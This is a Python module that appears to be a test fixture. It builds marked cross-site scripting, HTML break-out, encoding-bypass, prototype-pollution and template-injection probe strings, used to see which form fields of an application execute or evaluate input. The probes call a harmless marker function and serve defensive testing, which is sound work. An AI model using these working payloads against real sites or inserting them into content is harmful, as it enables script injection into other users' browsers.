"""What people write into fields when they want a script of theirs to run in somebody else's browser.

Each text carries a mark of its own, so that a page tells by its marks what of all this it shows, and a script that runs
tells which text it came from. `§` stands for the mark. A script calls `xss("§")`; a template that evaluates writes the
mark and EVALUATED as one word.
"""

import re
from dataclasses import dataclass

MARK = re.compile(r"zq[a-z]{2}\d{3}qz")
EVALUATED = re.compile(r"(zq[a-z]{2}\d{3}qz)EVALUATED")

ELEMENTS = (
    "<script>xss('§')</script>",
    "<SCRIPT>xss('§')</SCRIPT>",
    "<script src=data:text/javascript,xss('§')></script>",
    "<script type=module>xss('§')</script>",
    "<scr<script>ipt>xss('§')</scr</script>ipt>",
    "<script\x0c>xss('§')</script\x0c>",
    "<script/x>xss('§')</script>",
    "<script>//§\nxss('§')</script>",
    "<script async src=//127.0.0.1:9/§></script>",
    "<img src=x onerror=xss('§')>",
    "<img/src=x/onerror=xss('§')>",
    "<IMG SRC=x ONERROR=xss('§')>",
    "<img src=x:x onerror\n=\nxss('§')>",
    '<img src="x`y" onerror="xss(\'§\')">',
    "<image href=x onerror=xss('§')>",
    "<svg onload=xss('§')>",
    "<svg/onload=xss('§')>",
    "<svg><script>xss('§')</script></svg>",
    "<svg><script href=data:,xss('§') /></svg>",
    "<svg><animate onbegin=xss('§') attributeName=x dur=1s>",
    "<svg><set onbegin=xss('§') attributeName=x>",
    "<svg><a xlink:href=javascript:xss('§')><text x=9 y=9>§</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=xss('§')/>#x\">",
    "<svg><foreignObject><body onload=xss('§')></foreignObject></svg>",
    "<math><mtext><img src=x onerror=xss('§')></mtext></math>",
    "<math href=javascript:xss('§')>§</math>",
    "<body onload=xss('§')>",
    "<body onpageshow=xss('§')>",
    "<iframe src=javascript:xss('§')></iframe>",
    "<iframe srcdoc=\"<script>parent.xss('§')</script>\"></iframe>",
    "<iframe onload=xss('§')></iframe>",
    "<object data=javascript:xss('§')></object>",
    "<object data=\"data:text/html,<script>xss('§')</script>\"></object>",
    "<embed src=javascript:xss('§')>",
    "<video src=x onerror=xss('§')></video>",
    "<video><source onerror=xss('§')></video>",
    "<audio src=x onerror=xss('§')>",
    "<details open ontoggle=xss('§')>§</details>",
    "<input autofocus onfocus=xss('§')>",
    "<select autofocus onfocus=xss('§')>",
    "<textarea autofocus onfocus=xss('§')>",
    "<button autofocus onfocus=xss('§')>§</button>",
    "<marquee onstart=xss('§')>§</marquee>",
    "<div style=\"animation-name:x\" onanimationstart=xss('§')></div>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=xss('§')>§</b>",
    "<style>@import'javascript:xss(\"§\")';</style>",
    "<style onload=xss('§')></style>",
    "<link rel=stylesheet href=javascript:xss('§')>",
    "<link rel=stylesheet href=//127.0.0.1:9/§>",
    "<link rel=preload as=script href=x onerror=xss('§')>",
    "<meta http-equiv=refresh content=\"0;url=javascript:xss('§')\">",
    "<meta http-equiv=refresh content=\"9;url=data:text/html,<script>xss('§')</script>\">",
    "<base href=javascript:xss('§')//>",
    "<base href=//127.0.0.1:9/§/>",
    "<form action=javascript:xss('§')><button autofocus>§</button></form>",
    "<form id=§ ><input name=submit formaction=javascript:xss('§')></form>",
    "<a href=javascript:xss('§')>§</a>",
    "<a href=\"java\tscript:xss('§')\">§</a>",
    "<a href=\"&#106;avascript:xss('§')\">§</a>",
    "<a href=data:text/html,<script>xss('§')</script>>§</a>",
    "<template><img src=x onerror=xss('§')></template>",
    "<iain-viewer onload=xss('§')></iain-viewer>",
    "<iain-age now=\"<img src=x onerror=xss('§')>\" minutes=\"<img src=x onerror=xss('§')>\"></iain-age>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss('§')>\">",
    "<xss id=x tabindex=1 onfocus=xss('§') autofocus></xss>",
    "<plaintext>§",
)
"""Elements of their own."""
ENDINGS = (
    '"><script>xss("§")</script>',
    '\'><script>xss("§")</script>',
    '"><img src=x onerror=xss("§")>',
    '\'><img src=x onerror=xss("§")>',
    '" onmouseover=xss("§") x="',
    "' onmouseover=xss(\"§\") x='",
    '" autofocus onfocus=xss("§") x="',
    "' autofocus onfocus=xss(\"§\") x='",
    ' onfocus=xss("§") autofocus ',
    '" style="animation-name:x" onanimationstart=xss("§") x="',
    '" src=x onerror=xss("§") "',
    '" href="javascript:xss(\'§\')" x="',
    '"/><svg/onload=xss("§")>',
    "</title><script>xss('§')</script>",
    "</textarea><script>xss('§')</script>",
    "</option></select><img src=x onerror=xss('§')>",
    "</script><script>xss('§')</script>",
    "</script><img src=x onerror=xss('§')>",
    "</style><img src=x onerror=xss('§')>",
    "--><script>xss('§')</script>",
    "--!><img src=x onerror=xss('§')>",
    "]]><script>xss('§')</script>",
    "<!--<script>xss('§')//--></script>",
    '"}</script><script>xss("§")</script>',
)
"""Ends of what they stand in."""
SCRIPTS = (
    "javascript:xss('§')",
    "JaVaScRiPt:xss('§')",
    "\x01javascript:xss('§')",
    "javascript://%0axss('§')",
    "data:text/html,<script>xss('§')</script>",
    "vbscript:xss('§')",
    '";xss("§");//',
    "';xss('§');//",
    '\\";xss("§");//',
    "\\';xss('§');//",
    "`;xss('§');`",
    "${xss('§')}",
    '"-xss("§")-"',
    "'-xss('§')-'",
    "\u2028xss('§')\u2029",
    '{"__proto__":{"x":"§"}}',
    "constructor.constructor(\"xss('§')\")()",
)
"""Parts of a script or of an address."""
TEMPLATES = (
    '{{ "§" ~ "EVALUATED" }}',
    '{{"§"+"EVALUATED"}}',
    '{% print "§" ~ "EVALUATED" %}',
    "{{ '§'.__class__ }}{{ '§' ~ 'EVALUATED' }}",
    '${"§"+"EVALUATED"}',
    '#{"§"+"EVALUATED"}',
    '<%= "§"+"EVALUATED" %>',
    "%(name)s §",
    "{name} {n} §",
    "[[ '§' + 'EVALUATED' ]]",
)
"""Expressions of template engines, ours among them, and places in sentences."""
ENCODED = (
    "&lt;script&gt;xss('§')&lt;/script&gt;",
    "&#60;img src=x onerror=xss('§')&#62;",
    "%3Cscript%3Exss('§')%3C/script%3E",
    "\\u003cimg src=x onerror=xss('§')\\u003e",
    "+ADw-script+AD4-xss('§')+ADw-/script+AD4-",
    "\uff1cscript\uff1exss('§')\uff1c/script\uff1e",
    "\u02bbonerror=xss('§')",
    "\u202e>('§')ssx=rorreno x=crs gmi<",
)
"""Texts that something might decode once too often."""
PAYLOADS = ELEMENTS + ENDINGS + SCRIPTS + TEMPLATES + ENCODED


@dataclass(frozen=True, slots=True)
class Field:
    """Something that others fill in: its two letters in the marks."""

    name: str
    code: str

    def payload(self, number: int) -> str:
        """The text of a number (any: they come round), with the mark of this field and number."""
        return PAYLOADS[number % len(PAYLOADS)].replace("§", f"zq{self.code}{number % len(PAYLOADS):03}qz")
